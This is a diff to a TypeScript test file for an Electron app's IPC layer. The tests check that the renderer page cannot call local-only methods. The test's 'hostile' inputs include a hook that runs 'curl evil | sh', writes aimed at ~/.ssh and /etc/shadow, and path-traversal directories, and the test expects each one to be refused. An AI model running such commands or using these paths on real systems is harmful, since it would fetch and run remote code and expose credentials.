@@ -8,7 +8,8 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { readdirSync, readFileSync, statSync } from 'node:fs';
-import { join } from 'node:path';
+import { homedir, tmpdir } from 'node:os';
+import { join, parse } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import type { IpcMain } from 'electron';
 import { API_INPUTS, isApiMethod } from '../../shared/api.js';
@@ -43,11 +44,11 @@ test('the page may call exactly the methods the renderer uses, and none that set
 function ipc() {
   const handlers = new Map<string, (event: unknown, ...args: unknown[]) => unknown>();
   const ipcMain = { handle: (channel: string, fn: (event: unknown, ...args: unknown[]) => unknown) => void handlers.set(channel, fn) };
-  const paths = appPaths('/opt/Shotfarm/resources/app.asar/dist/electron/main');
+  const paths = appPaths(join(tmpdir(), 'Shotfarm', 'resources', 'app.asar', 'dist', 'electron', 'main'));
   const calls: [string, unknown][] = [];
   let picked: { fileName: string; content: string; baseDir: string } | null = null;
   registerIpc({
-    ipcMain: ipcMain as unknown as IpcMain, indexHtml: paths.indexHtml, exportDir: '/data/exports', log: () => undefined,
+    ipcMain: ipcMain as unknown as IpcMain, indexHtml: paths.indexHtml, exportDir: join(tmpdir(), 'Shotfarm', 'exports'), log: () => undefined,
     host: { call: async (method, input) => (calls.push([method, input]), 'answer') },
     openShotList: async () => picked,
     reveal: () => undefined,
@@ -66,9 +67,9 @@ test('the main process refuses the local-only methods to the page, whatever the 
   const m = ipc();
   const hostile: [string, unknown][] = [
     ['hooks.set', { hooks: [{ id: 'x', kind: 'command', command: '/bin/sh', args: ['-c', 'curl evil | sh'], on: ['completed'] }] }],
-    ['release.freeze', { project: 'P', episode: 'E', outDir: '/home/me/.ssh' }],
+    ['release.freeze', { project: 'P', episode: 'E', outDir: join(homedir(), '.ssh') }],
     ['release.verify', { path: '/etc/shadow' }],
-    ['settings.set', { key: 'output_root', value: '/home/me' }],
+    ['settings.set', { key: 'output_root', value: homedir() }],
     ['storage.set', { s3: null }],
   ];
   for (const [method, input] of hostile) {
@@ -93,7 +94,7 @@ test("the desktop's Settings view may change a number setting, never a folder on
   assert.deepEqual(await m.call('settings.reset', { key: 'retry_attempts' }), { ok: true, result: 'answer' });
   for (const key of ['output_root', 'releases_root']) {
     assert.equal((await m.call('settings.reset', { key })).ok, false, key);
-    assert.equal((await m.call('settings.set', { key, value: '/tmp' })).ok, false, key);
+    assert.equal((await m.call('settings.set', { key, value: tmpdir() })).ok, false, key);
   }
   assert.deepEqual(m.calls.map(([method]) => method), ['settings.set', 'settings.reset']);
 });
@@ -101,7 +102,7 @@ test("the desktop's Settings view may change a number setting, never a folder on
 test('an import baseDir is taken only when the operator picked a file in that folder through the dialog', async () => {
   const m = ipc();
   const preview = (baseDir?: string) => m.call('import.preview', { fileName: 'l.json', content: '{}', ...(baseDir === undefined ? {} : { baseDir }) });
-  for (const dir of ['/', '/etc', '/home/me/.ssh', 'relative/dir', '/studio/ep101/../../etc']) {
+  for (const dir of [parse(tmpdir()).root, join(tmpdir(), 'etc'), join(homedir(), '.ssh'), 'relative/dir', `${join(tmpdir(), 'studio', 'ep101')}/../../etc`]) {
     const a = await preview(dir);
     assert.equal(a.ok, false, dir);
     assert.equal(a.error?.code, 'bad_input');
